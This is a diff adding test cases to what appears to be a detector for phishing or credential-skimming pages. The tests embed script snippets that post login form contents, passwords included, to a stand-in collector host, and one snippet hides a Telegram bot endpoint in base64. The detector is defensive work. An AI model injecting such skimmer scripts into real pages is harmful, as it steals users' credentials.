@@ -160,3 +160,36 @@ describe('a script on a page with a password', () => {
     expect(at(body)).toEqual([])
   })
 })
+
+describe('a script that sends whatever a page was given', () => {
+  const login = '<form id=f><input name=u><input type=password name=p></form>'
+  const TO = 'https://collect.example.net/x.php'
+
+  test.each([
+    ['with a library', `$.post("${TO}",$(this).serialize())`],
+    ['with its settings in any order', `$.ajax({type:"POST",data:$("#f").serialize(),url:"${TO}"})`],
+    ['as the data of a form', `fetch("${TO}",{method:"POST",body:new FormData(f)})`],
+    ['field by field', `document.querySelectorAll("input").forEach(i=>o[i.name]=i.value);fetch("${TO}",o)`],
+  ])('sends the password, %s', (_, code) => {
+    expect(at(`${login}<script>${code}</script>`)).toEqual(['content.form_cross_site'])
+  })
+
+  test.each([
+    ['to the site itself', `${login}<script>$.post("/login",$(this).serialize())</script>`],
+    [
+      'of another form on the page',
+      `${login}<form id=n><input name=newsletter type=email></form><script>$.post("${TO}",$("#n").serialize())</script>`,
+    ],
+    ['nothing', `${login}<script>fetch("${TO}")</script>`],
+  ])('but not %s', (_, body) => {
+    expect(at(body)).toEqual([])
+  })
+
+  test('finds the address of a bot that a list holds in base64', () => {
+    const bot = btoa('https://api.telegram.org/bot15:AAE/sendMessage')
+    const code = `<script>var l=["${bot}","submit"];addEventListener(l[1],()=>fetch(atob(l[0])))</script>`
+    expect(at(login + code)).toEqual(['content.form_bot'])
+    expect(at(login + code.replace(bot, btoa('https://shop.example/api/status/of/services')))).toEqual([])
+    expect(at(code)).toEqual([])
+  })
+})
